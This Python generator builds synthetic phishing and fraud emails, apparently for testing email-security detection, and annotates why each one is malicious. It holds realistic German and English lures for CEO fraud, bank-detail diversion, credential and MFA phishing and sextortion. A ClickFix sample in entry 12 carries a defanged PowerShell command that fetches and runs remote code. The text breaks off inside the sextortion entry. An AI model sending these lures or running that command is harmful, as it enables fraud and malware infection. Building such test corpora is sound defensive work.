"""Attack messages 01-16 (German, English)."""
from mime import Text, Attach, Multi, local, rfcdate, ruuid, rhex, ralnum
from msg import message, Ctx, alt, mixed, html_of
from org import S, IBAN
import infra as I
import files
import qr
import codes

A = 'attack'


def build():
    # 01 -- CEO fraud, look-alike domain (rn/m), VPS
    w = local('cet', 2026, 10, 20, 8, 47)
    c = Ctx('a01', w)
    inf = I.postfix_host(c.rng, w, 'mail.exarnplegroup.eu', 'static.163.52.46.78.clients.your-server.de', '78.46.52.163')
    inf.headers = ['X-Mailer: iPad Mail (22B91)']
    body = Text('Hallo Frau Würtz,\n\nich bin heute und morgen in Gesprächen in Zürich und nur per E-Mail erreichbar.\n\n'
                'Wir stehen kurz vor der Unterzeichnung der Übernahme eines Bodenverkehrsdienstleisters am Flughafen Wien. '
                'Bis zur offiziellen Mitteilung ist der Vorgang streng vertraulich – bitte sprechen Sie im Haus mit niemandem darüber, '
                'auch nicht mit Herrn Dietrich oder der Kreditorenbuchhaltung.\n\n'
                'Für die Exklusivitätsvereinbarung ist heute noch eine Sicherheitsleistung von 486.500,00 EUR auf ein Treuhandkonto zu leisten. '
                'Die Abwicklung übernimmt Herr Dr. Frank Lehmann (Kanzlei Brenner Lehmann Rechtsanwälte), er meldet sich gleich mit den Kontodaten bei Ihnen.\n\n'
                'Können Sie mir kurz bestätigen, dass Sie heute vor 15:00 Uhr eine Auslandsüberweisung freigeben können?\n\n'
                'Danke für Ihre Diskretion.\n\nMatthias Köhler\n\nVon meinem iPad gesendet\n', charset='utf-8', cte='quoted-printable')
    message(A, 'de', 'ceo-fraud-vertrauliche-uebernahme', infra=inf, when=w,
            frm=('Dr. Matthias Köhler', 'm.koehler@exarnplegroup.eu'), to=S('cfo'),
            subject='Vertraulich – Projekt Wien', body=body, hcs='utf-8', hmode='Q',
            msgid='<%s@exarnplegroup.eu>' % ruuid(c.rng, True),
            what='CEO fraud: "CEO" in negotiations asks CFO to release a confidential escrow transfer, lawyer to follow.',
            why='Look-alike domain exarnplegroup.eu ("rn" for "m") on a Hetzner VPS, secrecy towards colleagues, deadline, large foreign transfer announced via third-party "lawyer"; the real CEO mails via mail-int01.')

    # 02 -- supplier bank change from look-alike domain (attacker M365 tenant)
    w = local('cet', 2026, 10, 27, 10, 12)
    c = Ctx('a02', w)
    inf = I.eop(c.rng, w, 'de')
    fraud = IBAN['lieferant_fraud']
    txt = ('Sehr geehrte Frau Schröder,\n\nim Zuge der Zusammenführung unseres Zahlungsverkehrs in der Unternehmensgruppe hat sich unsere Bankverbindung geändert. '
           'Bitte begleichen Sie ab sofort alle offenen und künftigen Rechnungen – insbesondere RE-2026-10418 (12.480,60 EUR) und RE-2026-10452 (7.915,20 EUR) – '
           'ausschließlich auf das folgende Konto:\n\n'
           'Kontoinhaber: Lieferant GmbH\nIBAN: %s\nBIC: REVOLT21\n\n'
           'Die bisherige Verbindung bei der Commerzbank wird zum 31.10.2026 aufgelöst; Zahlungen dorthin können nicht mehr zugeordnet werden. '
           'Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang.\n\n'
           'Da unsere Telefonanlage diese Woche umgestellt wird, sind wir telefonisch nur eingeschränkt erreichbar – bitte bestätigen Sie die Änderung kurz per Antwort auf diese E-Mail.\n\n'
           'Mit freundlichen Grüßen\n\nPetra Lang\nBuchhaltung / Finanzen\n\nLieferant GmbH\nIndustriestraße 14 · 63263 Neu-Isenburg\nAmtsgericht Offenbach HRB 48211 · USt-IdNr. DE 814 552 097\n'
           % codes.fmt_iban(fraud))
    pdfd = files.pdf(['#Lieferant GmbH', 'Industriestraße 14, 63263 Neu-Isenburg', '', 'An: Example Group, Kreditorenbuchhaltung', '',
                      '#Mitteilung über die Änderung unserer Bankverbindung', '',
                      'Mit Wirkung zum 27.10.2026 bitten wir, Zahlungen ausschließlich auf folgendes Konto zu leisten:',
                      'IBAN: ' + codes.fmt_iban(fraud), 'BIC: REVOLT21', 'Kontoinhaber: Lieferant GmbH', '',
                      'Neu-Isenburg, 26.10.2026', 'Geschäftsführung'], title='Bankverbindung', producer='Microsoft® Word für Microsoft 365')
    body = mixed(c, [alt(c, txt, html_of(txt), 'windows-1252', 'quoted-printable', 'outlook'),
                     Attach(pdfd, 'application/pdf', 'Bankverbindung_Lieferant_GmbH_2026.pdf')], 'outlook')
    message(A, 'de', 'lieferant-bankverbindung-lookalike', infra=inf, when=w,
            frm=('Petra Lang', 'p.lang@lieferant-gmhb.de'), to=S('ap1'), cc=[('Stefan Maier', 's.maier@lieferant-gmhb.de')],
            subject='Änderung unserer Bankverbindung – bitte ab sofort berücksichtigen', body=body, hcs='windows-1252', hmode='Q',
            extra=['Accept-Language: de-DE, en-US', 'Content-Language: de-DE'],
            what='Supplier bank-detail change "from Lieferant GmbH" with confirmation letter PDF, names two real-looking open invoices.',
            why='Sender domain lieferant-gmhb.de (transposed letters, not lieferant-gmbh.de) on its own Microsoft 365 tenant; new account is a Lithuanian e-money IBAN for a German GmbH; discourages phone verification. Classic vendor-impersonation BEC.',
            hardneg=None)

    # 03 -- e-invoice readiness phishing "ELSTER" via SendGrid
    w = local('cet', 2026, 11, 3, 7, 58)
    c = Ctx('a03', w)
    rcpt = S('ap1')[1]
    inf = I.sendgrid(c.rng, w, 'erechnung-register.de', rcpt)
    url = 'https://erechnung-register.de/elster/bestaetigung?vg=ER-2026-558140&m=' + 'amFuYS5zY2hyb2VkZXJAZXhhbXBsZS5jb20'
    txt = ('Mein ELSTER – Ihr Online-Finanzamt\n\nSehr geehrte Damen und Herren,\n\n'
           'seit dem 1. Januar 2025 sind inländische Unternehmen verpflichtet, elektronische Rechnungen (XRechnung/ZUGFeRD) empfangen zu können. '
           'Für Ihr Unternehmen (Steuernummer 045 225 ***) liegt uns bislang keine Bestätigung der Empfangsbereitschaft vor.\n\n'
           'Bitte bestätigen Sie die Empfangsadresse bis zum 14.11.2026 über den folgenden Link. Andernfalls kann die Vorsteuer aus Eingangsrechnungen '
           'des laufenden Veranlagungszeitraums nicht berücksichtigt werden.\n\nEmpfangsbereitschaft bestätigen:\n%s\n\n'
           'Vorgangsnummer: ER-2026-558140\n\nMit freundlichen Grüßen\nIhr ELSTER-Team\n\nDiese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.\n' % url)
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">'
            '<div style="background:#00365b;color:#fff;padding:14px 20px;font-size:18px">Mein ELSTER &ndash; Ihr Online-Finanzamt</div>'
            '<div style="padding:20px"><p>Sehr geehrte Damen und Herren,</p>'
            '<p>seit dem 1. Januar 2025 sind inländische Unternehmen verpflichtet, elektronische Rechnungen (XRechnung/ZUGFeRD) empfangen zu können. '
            'Für Ihr Unternehmen (Steuernummer 045 225 ***) liegt uns bislang <b>keine Bestätigung der Empfangsbereitschaft</b> vor.</p>'
            '<p>Bitte bestätigen Sie die Empfangsadresse bis zum <b>14.11.2026</b>. Andernfalls kann die Vorsteuer aus Eingangsrechnungen des laufenden Veranlagungszeitraums nicht berücksichtigt werden.</p>'
            '<p><a href="https://u4471922.ct.sendgrid.net/ls/click?upn=%s" style="background:#f2a900;color:#000;padding:10px 18px;text-decoration:none">Empfangsbereitschaft bestätigen</a></p>'
            '<p style="color:#666">Vorgangsnummer: ER-2026-558140</p><p>Mit freundlichen Grüßen<br>Ihr ELSTER-Team</p></div></body></html>' % ralnum(c.rng, 120))
    body = alt(c, txt, html, 'utf-8', 'quoted-printable')
    message(A, 'de', 'erechnung-elster-phishing', infra=inf, when=w,
            frm=('Mein ELSTER', 'noreply@erechnung-register.de'), to=S('ap1'),
            subject='Empfangsbereitschaft E-Rechnung nicht bestätigt – Vorgang ER-2026-558140', body=body, hcs='utf-8', hmode='Q',
            extra=['List-Unsubscribe: <mailto:unsubscribe@erechnung-register.de>'],
            what='Fake ELSTER notice: confirm the company\'s e-invoice receiving readiness or lose input-VAT deduction.',
            why='ELSTER never mails such requests; sent via SendGrid from erechnung-register.de (no relation to elster.de); click-tracked link to credential-harvesting page with the recipient address encoded; invented legal consequence.')

    # 04 -- thread hijack from genuinely compromised GSE Technik Weber M365 mailbox
    w = local('cet', 2026, 11, 10, 6, 12)
    c = Ctx('a04', w)
    inf = I.eop(c.rng, w, 'de')
    link = 'https://gsetechnikweber-my.sharepoint.com/:o:/g/personal/u_hartmann_gse-technik-weber_de/EoX7' + ralnum(c.rng, 38) + '?e=' + ralnum(c.rng, 6)
    txt = ('Guten Morgen Herr Groß,\n\nwie besprochen das überarbeitete Angebot inkl. der Positionen für die Förderbandwagen. '
           'Aufgrund der Dateigröße habe ich es in unserem SharePoint abgelegt:\n\nAngebot_GSE-2026-1187_rev2.pdf\n<%s>\n\n'
           'Bitte mit Ihrer Firmen-E-Mail anmelden, der Link ist 48 Stunden gültig.\n\nMit freundlichen Grüßen\n\nUwe Hartmann\nVertrieb / Service\nGSE Technik Weber GmbH\n\n'
           '________________________________\nVon: Florian Groß <florian.gross@example.com>\nGesendet: Dienstag, 3. November 2026 14:22\nAn: Uwe Hartmann <u.hartmann@gse-technik-weber.de>\n'
           'Betreff: AW: Angebot Wartung Flugzeugschlepper / Förderbandwagen Q1 2027\n\nHallo Herr Hartmann,\n\nvielen Dank. Können Sie die Förderbandwagen (4 Stück, NMC Wollard) '
           'noch mit aufnehmen? Dann gebe ich es nächste Woche zur Freigabe.\n\nViele Grüße\nFlorian Groß\nEinkauf, Example Group\n' % link)
    html = html_of(txt).replace('Angebot_GSE-2026-1187_rev2.pdf<br>\n&lt;%s&gt;' % link.replace('&', '&amp;'),
                                '<a href="%s">Angebot_GSE-2026-1187_rev2.pdf</a>' % link)
    body = alt(c, txt, html, 'iso-8859-1', 'quoted-printable', 'outlook')
    message(A, 'de', 'gse-thread-hijack-sharepoint', infra=inf, when=w,
            frm=('Uwe Hartmann', 'u.hartmann@gse-technik-weber.de'), to=S('proc'),
            subject='AW: Angebot Wartung Flugzeugschlepper / Förderbandwagen Q1 2027', body=body, hcs='iso-8859-1', hmode='Q',
            in_reply_to='<FR2P281MB1043A7C2D5E0B1F49A@FR2P281MB1043.DEUP281.PROD.OUTLOOK.COM>',
            extra=['Content-Language: de-DE'],
            what='Reply in a real quotation thread from the supplier\'s genuine mailbox, offer "too large" so shared as SharePoint link.',
            why='Genuine but compromised supplier mailbox (sent from its real M365 tenant at 06:12): instead of the PDF the thread always used, a OneNote (":o:") share in the supplier\'s OneDrive that leads to an AiTM login page; "sign in with your company e-mail", 48-h expiry. Hard negative: business 04.')

    # 05 -- payroll diversion from free mailer
    w = local('cet', 2026, 11, 16, 19, 41)
    c = Ctx('a05', w)
    inf = I.gmail(c.rng, w, 'joerg.dietrich.fra@gmail.com')
    n26 = codes.iban_de('10011001', '2625918374')
    body = Text('Hallo Katrin,\n\nich habe mein Gehaltskonto gewechselt. Kannst du die neue Bankverbindung bitte schon für die Novemberabrechnung hinterlegen? '
                'Ich bin die ganze Woche im Schichtbetrieb auf dem Vorfeld und komme nicht ins Portal.\n\n'
                'Kontoinhaber: Jörg Dietrich\nIBAN: %s\nBank: N26\n\nDie alte Verbindung bei der Sparkasse bitte nicht mehr nutzen, das Konto wird gekündigt.\n\n'
                'Danke dir und Gruß\nJörg\n\nVon meinem iPhone gesendet\n' % codes.fmt_iban(n26), charset='utf-8', cte='quoted-printable')
    message(A, 'de', 'payroll-diversion-gmail', infra=inf, when=w,
            frm=('Jörg Dietrich', 'joerg.dietrich.fra@gmail.com'), to=S('hr'),
            subject='Neue Bankverbindung Gehalt', body=body, hcs='utf-8', hmode='Q',
            what='"Head of Ground Operations" asks HR from a Gmail address to change his salary account before payroll cut-off.',
            why='Payroll diversion: unknown private Gmail address with the employee\'s name, neobank account, bypasses the HR self-service portal, old account "being closed", timed before the November run. Hard negative: business 05 (genuine sick note from a private GMX box).')

    # 06 -- quishing, MFA re-registration, compromised tax office mailbox (cPanel)
    w = local('cet', 2026, 11, 12, 9, 3)
    c = Ctx('a06', w)
    snd = 'info@steuerbuero-kleinschmidt.de'
    inf = I.exim_cpanel(c.rng, w, 'server4.webspace-profis.de', '185.216.178.44', snd, '102.89.34.121')
    inf.msgid = '<%s@steuerbuero-kleinschmidt.de>' % rhex(c.rng, 32)
    inf.headers.append('X-Mailer: Microsoft Outlook 16.0')
    qurl = 'https://auth.mfa-register365.com/r/?e=bW9uaWthLmhvZmZtYW5uQGV4YW1wbGUuY29t'
    png = qr.qr_png(qurl)
    plain = ('Microsoft 365\n\nIhre Registrierung für Microsoft Authenticator läuft am 14.11.2026 ab.\n\n'
             'Um den Zugriff auf Outlook, Teams und SharePoint nicht zu verlieren, registrieren Sie Ihr Gerät bitte erneut. '
             'Scannen Sie dazu den QR-Code mit der Kamera Ihres Smartphones.\n\nKonto: monika.hoffmann@example.com\nReferenz: MFA-7781-DE\n\nMicrosoft Corporation\n')
    html = ('<html><body style="font-family:Segoe UI,Arial;font-size:14px"><table width="560" style="border:1px solid #ddd"><tr><td style="padding:24px">'
            '<p style="font-size:20px;color:#0067b8">Microsoft 365</p><p>Ihre Registrierung für <b>Microsoft Authenticator</b> läuft am <b>14.11.2026</b> ab.</p>'
            '<p>Um den Zugriff auf Outlook, Teams und SharePoint nicht zu verlieren, registrieren Sie Ihr Gerät bitte erneut. Scannen Sie dazu den QR-Code mit der Kamera Ihres Smartphones.</p>'
            '<p><img src="cid:qr-mfa-7781@ms365" width="200" height="200" alt="QR"></p>'
            '<p style="color:#666">Konto: monika.hoffmann@example.com<br>Referenz: MFA-7781-DE</p></td></tr></table></body></html>')
    body = Multi('related', [alt(c, plain, html, 'iso-8859-15', 'quoted-printable', 'outlook'),
                             Attach(png, 'image/png', 'image001.png', disposition='inline', cid='qr-mfa-7781@ms365')], c.b('outlook'), ' type="multipart/alternative";')
    message(A, 'de', 'quishing-authenticator-ablauf', infra=inf, when=w,
            frm=('Microsoft 365 Sicherheit', snd), to=S('ap2'),
            subject='Aktion erforderlich: Ihre Authenticator-Registrierung läuft ab', body=body, hcs='iso-8859-15', hmode='Q',
            what='Quishing: "Microsoft 365" says the Authenticator registration expires; QR code (PNG) to re-register.',
            why='Sent from a hijacked mailbox of a small tax office on a cPanel host (client IP in Nigeria), display name only claims Microsoft; QR decodes to auth.mfa-register365.com with the victim\'s address base64-encoded - AiTM credential/MFA theft moved to the phone. Hard negative: business 06 (real IT notice on MFA).')

    # 07 -- customs ATLAS notice with password-protected archive
    w = local('cet', 2026, 11, 18, 11, 26)
    c = Ctx('a07', w)
    inf = I.postfix_host(c.rng, w, 'mail.zoll-abfertigung.de', 'vmi2318841.contaboserver.net', '161.97.148.203')
    inf.headers = ['X-Mailer: Microsoft Outlook 16.0']
    z = files.zipfile_bytes([('Abgabenbescheid_26DE510300041877E2.pdf.lnk', files.PLACEHOLDER)], password='ATB2611',
                            when=(2026, 11, 18, 10, 58, 0), seed='a07')
    body = mixed(c, [Text('Sehr geehrte Damen und Herren,\n\nzu der Einfuhranmeldung MRN 26DE510300041877E2 (Luftfrachtsendung, AWB 020-4881 3362, '
                          'Verwahrung Frankfurt Cargo City Süd) wurden im Rahmen der Nachprüfung Einfuhrabgaben in Höhe von 18.742,36 EUR festgesetzt.\n\n'
                          'Den Abgabenbescheid erhalten Sie aus datenschutzrechtlichen Gründen als verschlüsseltes Archiv.\nKennwort: ATB2611\n\n'
                          'Die Zahlungsfrist beträgt 5 Werktage. Bis zum Zahlungseingang bleibt die Sendung in der vorübergehenden Verwahrung.\n\n'
                          'Mit freundlichen Grüßen\nIm Auftrag\nS. Brückner\nHauptzollamt Frankfurt am Main, Zollamt Flughafen, Sachgebiet B\n',
                          charset='iso-8859-15', cte='8bit'),
                     Attach(z, 'application/zip', 'Abgabenbescheid_26DE510300041877E2.zip')])
    message(A, 'de', 'zoll-atlas-abgabenbescheid-zip', infra=inf, when=w,
            frm=('Hauptzollamt Frankfurt am Main', 'zollamt.flughafen@zoll-abfertigung.de'), to=S('cargo'),
            subject='Abgabenbescheid Einfuhr MRN 26DE510300041877E2 - Zahlungsfrist', body=body, hcs='iso-8859-15', hmode='Q',
            what='Fake customs (Hauptzollamt) duty assessment for an air-cargo import, delivered as password-protected ZIP.',
            why='Customs communicates via ATLAS/Zoll-Portal and letters, not from zoll-abfertigung.de on a Contabo VPS; ZipCrypto archive (password in body, defeats scanning) holds a ".pdf.lnk" shortcut - malware dropper pattern.')

    # 08 -- fake register "invoice" (offer disguised as invoice) via Brevo
    w = local('cet', 2026, 12, 1, 9, 15)
    c = Ctx('a08', w)
    rcpt = S('ap1')[1]
    inf = I.brevo(c.rng, w, 'gewerbeverzeichnis-zentral.de', rcpt)
    sc = IBAN['register_scam']
    pdfd = files.pdf(['#ZGV - Zentrales Gewerbeverzeichnis', 'Datenerfassung Unternehmensregister 2027', '',
                      'Firma: Example Group, Frankfurt am Main', 'Registernummer: ZGV-2026/48213', '',
                      '#Zahlungsaufforderung Nr. 2026/48213', 'Eintragung und Veröffentlichung Ihrer Firmendaten', 'Leistungszeitraum 01.01.2027 - 31.12.2027',
                      'Betrag netto: 999,00 EUR   zzgl. 19 % USt: 189,81 EUR   Gesamt: 1.188,81 EUR', '',
                      'Zahlbar innerhalb von 10 Tagen auf: IBAN ' + codes.fmt_iban(sc) + '  BIC RETBLT21', '', '',
                      'Mit der Zahlung nehmen Sie unser Angebot zur Eintragung im privaten Verzeichnis ZGV an.',
                      'Vertragslaufzeit 3 Jahre, Verlängerung um jeweils 1 Jahr, sofern nicht 3 Monate vor Ablauf gekündigt.'],
                     title='Zahlungsaufforderung', producer='TCPDF 6.6.5')
    txt = ('Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie die Zahlungsaufforderung zur Aktualisierung Ihres Eintrags im Zentralen Gewerbeverzeichnis '
           'für das Jahr 2027. Bitte prüfen Sie die Daten und überweisen Sie den Betrag fristgerecht, damit Ihr Eintrag veröffentlicht werden kann.\n\n'
           'Mit freundlichen Grüßen\nZGV Datenservice\n')
    body = mixed(c, [alt(c, txt, html_of(txt), 'iso-8859-1', 'quoted-printable'),
                     Attach(pdfd, 'application/pdf', 'Zahlungsaufforderung_2026-48213.pdf')])
    message(A, 'de', 'gewerbeverzeichnis-rechnung', infra=inf, when=w,
            frm=('ZGV Zentrales Gewerbeverzeichnis', 'buchhaltung@gewerbeverzeichnis-zentral.de'), to=S('ap1'),
            subject='Zahlungsaufforderung Nr. 2026/48213 – Gewerbeverzeichnis 2027', body=body, hcs='windows-1252', hmode='Q',
            extra=['List-Unsubscribe: <https://gewerbeverzeichnis-zentral.de/abmelden>'],
            what='Directory "payment request" for a commercial-register entry, PDF invoice with IBAN.',
            why='Register/directory scam: an offer disguised as an official invoice (contract terms in small print, 3-year term), never ordered, sent via Brevo, payee is a Lithuanian account.')

    # 09 -- DocuSign lure with SVG attachment from compromised WordPress host
    w = local('cet', 2026, 10, 14, 15, 37)
    c = Ctx('a09', w)
    snd = 'wordpress@hotel-alpenblick-tirol.at'
    inf = I.exim_cpanel(c.rng, w, 'cp47.world4you-server.com', '81.19.145.87', snd, '127.0.0.1', 'localhost')
    inf.headers.append('X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)')
    inf.msgid = '<%s@hotel-alpenblick-tirol.at>' % ralnum(c.rng, 43)
    svg = files.svg_lure('DocuSign', 'REVIEW DOCUMENT', 'https://esign-alpina.review-docs.net/s/?id=' + ralnum(c.rng, 24) + '&e=bmluYS5hbGJyZWNodEBleGFtcGxlZ3JvdXAuZXU',
                         'Anna Keller sent you SGHA 2026 Annex B for signature')
    txt = ('Anna Keller sent you a document to review and sign.\n\nSGHA 2026 Annex B - FRA/MXP Ground Handling Rates\n\n'
           'Please review the attached secure document and complete your signature by 16 October 2026.\n\n'
           'Do Not Share This Email\nThis email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.\n')
    html = html_of(txt, 'font-family:Helvetica,Arial;font-size:14px;color:#333')
    body = mixed(c, [alt(c, txt, html, 'utf-8', 'quoted-printable', 'php'),
                     Attach(svg.encode(), 'image/svg+xml', 'SGHA_2026_Annex_B_Alpina_Air.svg')], 'php')
    message(A, 'en', 'docusign-svg-sgha', infra=inf, when=w,
            frm=('Anna Keller via DocuSign', snd), to=S('sales'),
            subject='Anna Keller sent you a document to review and sign: SGHA 2026 Annex B', body=body,
            what='Fake DocuSign envelope for the customer\'s SGHA annex with an SVG "document".',
            why='Not from DocuSign infrastructure but a hacked Austrian hotel WordPress (PHPMailer, wordpress@...). The SVG is a clickable lure to esign-alpina.review-docs.net with the victim\'s address encoded; real DocuSign never attaches SVG. Hard negative: business 09.')

    # 10 -- callback phishing (TOAD), fake Microsoft 365 renewal
    w = local('cet', 2026, 10, 21, 13, 5)
    c = Ctx('a10', w)
    inf = I.gmail(c.rng, w, 'renewals.billing365@gmail.com')
    pdfd = files.pdf(['#Microsoft 365 Business Premium - Annual Renewal', 'Invoice No: INV-M365-884213', 'Date: 21 Oct 2026', '',
                      'Bill to: rachel.owens@examplegroup.eu', 'Product: Microsoft 365 Business Premium (25 seats)', 'Term: 12 months, auto-renewal',
                      'Amount charged: GBP 489.99', 'Payment method: card on file', '',
                      'If you did not authorise this renewal, call our Billing Support within 24 hours to cancel',
                      'and receive a full refund:  +44 20 3807 4119  (Mon-Sat 8am-10pm)'], title='Invoice', producer='Microsoft Word 2019')
    body = mixed(c, [Text('Hello,\n\nThank you for renewing your subscription. Your invoice INV-M365-884213 is attached.\n\n'
                          'The amount of GBP 489.99 will appear on your statement within 24 hours. For any queries regarding this charge please call +44 20 3807 4119.\n\n'
                          'Regards,\nBilling Department\n', charset='us-ascii', cte='7bit'),
                     Attach(pdfd, 'application/pdf', 'INV-M365-884213.pdf')], 'gmail')
    message(A, 'en', 'callback-m365-renewal-pdf', infra=inf, when=w,
            frm=('Microsoft Billing', 'renewals.billing365@gmail.com'), to=S('uk_acc'),
            subject='Your subscription renewal INV-M365-884213', body=body,
            what='Callback phishing (TOAD): "renewal invoice" PDF, refund by phoning a number.',
            why='Microsoft billing never comes from Gmail; no link, only a phone number so the victim calls the attackers, who then install remote-access tools or take card data. Hard negative: business 10 (genuine Microsoft invoice notice).')

    # 11 -- device-code phishing, look-alike customer domain on attacker M365 tenant
    w = local('cet', 2026, 10, 29, 16, 2)
    c = Ctx('a11', w)
    inf = I.eop(c.rng, w, 'eu')
    txt = ('Hi Nina,\n\nfollowing our call, I have set up the Teams session for the winter schedule 2026/27 review (FRA and MXP turnaround times, '
           'extra de-icing positions).\n\nOur IT has restricted guest access, so external participants need to verify once before joining:\n\n'
           '1. Open https://microsoft.com/devicelogin\n2. Enter the code: H7QJ4XMNR\n3. Sign in with your examplegroup.eu account\n\n'
           'The code is valid for 15 minutes, I will resend if needed. The meeting link will then appear in your Teams calendar.\n\n'
           'Best regards\nMark Brunner\nHead of Ground Operations\nAlpina Air AG\n')
    body = alt(c, txt, html_of(txt), 'utf-8', 'quoted-printable', 'outlook')
    message(A, 'en', 'device-code-teams-alpina', infra=inf, when=w,
            frm=('Mark Brunner', 'mark.brunner@alpina-air.co'), to=S('sales'),
            subject='Winter schedule 26/27 – Teams session', body=body,
            what='"Customer airline" invites to a Teams session, asks to enter a code at microsoft.com/devicelogin.',
            why='Device-code phishing: the code was generated by the attacker, so signing in hands him OAuth tokens for the victim\'s M365 account (no password page to detect). Look-alike domain alpina-air.co (customer is alpina-air.com). Hard negative: business 11 (genuine Teams invitation).')

    # 12 -- ClickFix HTML attachment (air cargo AWB)
    w = local('cet', 2026, 11, 4, 10, 44)
    c = Ctx('a12', w)
    rcpt = S('cargo')[1]
    inf = I.mailgun(c.rng, w, 'awb-notices.com', rcpt, eu=False)
    clickfix = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>AWB 020-48813362 - Discrepancy report</title></head>'
                '<body style="font-family:Arial;background:#eef1f5"><div style="max-width:520px;margin:50px auto;background:#fff;padding:28px">'
                '<h3>Cargo document viewer</h3><p>Verify you are human to load AWB 020-48813362.</p>'
                '<ol><li>Press <b>Windows + R</b></li><li>Press <b>Ctrl + V</b> to paste the verification code</li><li>Press <b>Enter</b></li></ol>'
                '<p style="font-family:monospace;background:#f4f4f4;padding:6px">powershell -w h -nop -c "irm hxxps://cdn-awbcheck[.]top/v | iex" # Verification ID: 772-118</p>'
                '<!-- inert evaluation sample: no script, command defanged --></div></body></html>\n')
    txt = ('Dear customer,\n\nShipment AWB 020-48813362 (FRA, 14 pcs, declared 2,310 kg) is on hold at the warehouse due to a weight discrepancy '
           '(actual 2,687 kg). Please review the attached discrepancy report and confirm the revised chargeable weight within 24 hours '
           'to avoid storage charges.\n\nCargo Service Centre\n')
    body = mixed(c, [alt(c, txt, html_of(txt), 'utf-8', 'base64'),
                     Attach(clickfix.encode(), 'text/html; charset=utf-8', 'AWB_020-48813362_Discrepancy.html')])
    message(A, 'en', 'clickfix-awb-discrepancy', infra=inf, when=w,
            frm=('Cargo Service Centre', 'cargo-notify@awb-notices.com'), to=S('cargo'),
            subject='AWB 020-48813362 on hold – weight discrepancy, action required', body=body,
            what='Air-waybill weight-discrepancy notice with an HTML "document viewer".',
            why='ClickFix: the HTML asks to press Win+R and paste a PowerShell one-liner (defanged here) - user-executed malware. Bulk sender via Mailgun on an unrelated domain, generic greeting, storage-charge pressure.')

    # 13 -- HMRC VAT penalty phishing via Amazon SES
    w = local('uk', 2026, 11, 24, 8, 31)
    c = Ctx('a13', w)
    inf = I.ses(c.rng, w, S('uk_acc')[1])
    txt = ('HM Revenue & Customs\n\nVAT Registration Number: 387 4229 156\n\nDear Taxpayer,\n\nOur records show that your VAT return for the period ending 30 September 2026 '
           'was submitted late. Under the points-based penalty regime you have now reached the penalty threshold and a penalty of GBP 200 has been charged.\n\n'
           'You can appeal or review your penalty points through your business tax account before 8 December 2026:\n'
           'https://www.tax.service.gov.uk.vat-penalty-review.com/business-account\n\n'
           'HMRC Digital Services\n')
    body = alt(c, txt, html_of(txt).replace('https://www.tax.service.gov.uk.vat-penalty-review.com/business-account',
                                             '<a href="https://www.tax.service.gov.uk.vat-penalty-review.com/business-account">Sign in to your business tax account</a>'), 'utf-8', 'quoted-printable')
    message(A, 'en', 'hmrc-vat-penalty', infra=inf, when=w,
            frm=('HMRC', 'noreply@hmrc-digital-notices.co.uk'), to=S('uk_acc'),
            subject='VAT penalty points: review your account before 8 December', body=body,
            what='HMRC "late VAT return" penalty notice linking to a business tax account login.',
            why='HMRC does not email penalty notices with sign-in links; sender domain hmrc-digital-notices.co.uk via Amazon SES; the link hostname is vat-penalty-review.com with gov.uk as a deceptive subdomain prefix.')

    # 14 -- carrier/supplier bank change, look-alike .co domain on Zoho, quoted thread
    w = local('uk', 2026, 11, 26, 11, 48)
    c = Ctx('a14', w)
    inf = I.Infra('sender4-op-o12.zoho.eu', 'sender4-op-o12.zoho.eu', '136.143.169.12',
                  [('by mx.zoho.eu with SMTPS id %s' % ralnum(c.rng, 40, '0123456789'), 1, 'utc')],
                  ['X-Mailer: Zoho Mail', 'X-ZohoMailClient: External'],
                  '<%s.%s@northernairside.co>' % (rhex(c.rng, 11), rhex(c.rng, 16)))
    fr = IBAN['northern_fraud']
    txt = ('Hi Rachel,\n\nThanks for confirming. Please note our NatWest account is currently under the bank\'s annual review and incoming payments are being returned. '
           'Could you please remit invoice NAS-24117 (GBP 6,840.00) and any further payments to our alternative business account:\n\n'
           'Account name: Northern Airside Services Ltd\nSort code: 04-00-04\nAccount no: 73810029\nIBAN: %s\n\n'
           'Kindly send the remittance advice to this email once done.\n\nKind regards\nGary Holt\nAccounts Manager\nNorthern Airside Services Ltd\n\n'
           '-----Original Message-----\nFrom: Rachel Owens <rachel.owens@examplegroup.eu>\nSent: 25 November 2026 16:02\n'
           'Subject: RE: Invoice NAS-24117 - cabin cleaning October\n\nHi Gary, invoice received, it is scheduled for the payment run on 28 November.\nRachel\n' % codes.fmt_iban(fr))
    body = alt(c, txt, html_of(txt), 'utf-8', 'quoted-printable')
    message(A, 'en', 'supplier-bank-change-lookalike-thread', infra=inf, when=w,
            frm=('Gary Holt', 'gary.holt@northernairside.co'), to=S('uk_acc'),
            subject='RE: Invoice NAS-24117 - cabin cleaning October', body=body,
            in_reply_to='<LO2P123MB5561B7E1A7@LO2P123MB5561.GBRP123.PROD.OUTLOOK.COM>',
            what='Reply in the invoice thread asking to pay to an "alternative" account because the usual one is under review.',
            why='Thread continued from northernairside.co (supplier is northernairside.co.uk) on Zoho, after the attacker obtained the thread; new account at a different bank (Monzo), remittance advice requested by mail. Hard negative: business 12.')

    # 15 -- sextortion with bech32 Bitcoin address, spoofed own address
    w = local('cet', 2026, 12, 3, 3, 17)
    c = Ctx('a15', w)
    me = S('uk_mgr')[1]
    inf = I.Infra('[186.233.186.14]', 'unknown', '186.233.186.14', [], [], '<%s@%s>' % (rhex(c.rng, 16), 'examplegroup.eu'), tls=False)
    btc = codes.btc_from_seed('audit65-sextortion')
    body = Text('Hello James,\n\nI have to share bad news with you. Several months ago I got access to the device you use for browsing, through a router '
                'vulnerability. Since then I have been recording your activity, including certain websites you visited and video from your camera.\n\n'
                'I am ready to delete everything in exchange for USD 1450 in Bitcoin. Send it to this wallet:\n\n%s\n\n'
                'You have 48 hours from opening this email. I can see when you read it. Do not reply and do not contact anyone, '
                'otherwise the video goes to all your contacts, colleagues and your employer.\n' % btc, charset='us-ascii', cte='7bit')
    message(A, 'en', 'sextortion-bitcoin-spoofed-self', infra=inf, when=w, tls=False,
            frm=('', me), to=('James Whitfield', me), return_path='ejecutivo@promocoes-rapidas.com.br',
            subject='Your account has been compromised - payment pending', body=body,
            what='Sextortion: claims device compromise and webcam recordings, demands Bitcoin.',
